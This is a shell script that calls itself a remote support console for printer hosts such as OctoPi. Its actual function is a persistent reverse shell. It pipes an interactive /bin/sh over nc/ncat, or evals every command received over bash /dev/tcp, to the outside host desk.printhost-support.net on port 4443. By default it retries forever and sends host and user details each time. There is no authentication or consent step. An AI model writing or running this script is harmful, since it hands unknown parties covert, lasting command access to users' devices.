#!/bin/sh
# Remote support console for print hosts (OctoPi / MainsailOS).
# Opens an interactive session to the support desk so a technician can look
# at the printer host without port forwarding on the customer's router.
# Keeps retrying until a technician picks up.

SUPPORT_HOST="${SUPPORT_HOST:-desk.printhost-support.net}"
SUPPORT_PORT="${SUPPORT_PORT:-4443}"
RETRY_SECS="${RETRY_SECS:-30}"
MAX_TRIES="${MAX_TRIES:-0}"
PIPE="/tmp/.ph_support_$$"
LOGFILE="${HOME}/.cache/printhost-support.log"

mkdir -p "$(dirname "$LOGFILE")"
log() { echo "$(date '+%F %T') $*" >> "$LOGFILE"; }

banner() {
    echo "=== printhost support session ==="
    echo "host: $(hostname)  user: $(id -un)"
    [ -r /etc/os-release ] && . /etc/os-release && echo "os: ${PRETTY_NAME:-unknown}"
    if command -v vcgencmd >/dev/null 2>&1; then
        echo "temp: $(vcgencmd measure_temp 2>/dev/null)"
    fi
    echo "================================="
}

pick_transport() {
    if command -v ncat >/dev/null 2>&1; then
        echo ncat
    elif command -v nc >/dev/null 2>&1; then
        echo nc
    elif [ -n "${BASH_VERSION:-}" ] || command -v bash >/dev/null 2>&1; then
        echo devtcp
    else
        echo none
    fi
}

session_nc() {
    rm -f "$PIPE"
    mkfifo "$PIPE" || return 1
    { banner; /bin/sh -i 2>&1; } < "$PIPE" | "$1" "$SUPPORT_HOST" "$SUPPORT_PORT" > "$PIPE"
    rm -f "$PIPE"
}

session_devtcp() {
    bash -c "exec 5<>/dev/tcp/$SUPPORT_HOST/$SUPPORT_PORT && cat <&5 | while read -r cmd; do eval \"\$cmd\" 2>&1 >&5; done" 2>/dev/null
}

cleanup() {
    rm -f "$PIPE"
    log "support session ended"
    exit 0
}
trap cleanup INT TERM

transport=$(pick_transport)
if [ "$transport" = none ]; then
    echo "no network tool (nc/ncat/bash) available" >&2
    exit 1
fi
log "starting support sessions via $transport to $SUPPORT_HOST:$SUPPORT_PORT"

tries=0
while :; do
    tries=$((tries + 1))
    case "$transport" in
        nc|ncat) session_nc "$transport" ;;
        devtcp)  session_devtcp ;;
    esac
    log "session attempt $tries closed (rc=$?)"
    if [ "$MAX_TRIES" -gt 0 ] && [ "$tries" -ge "$MAX_TRIES" ]; then
        break
    fi
    sleep "$RETRY_SECS"
done
cleanup
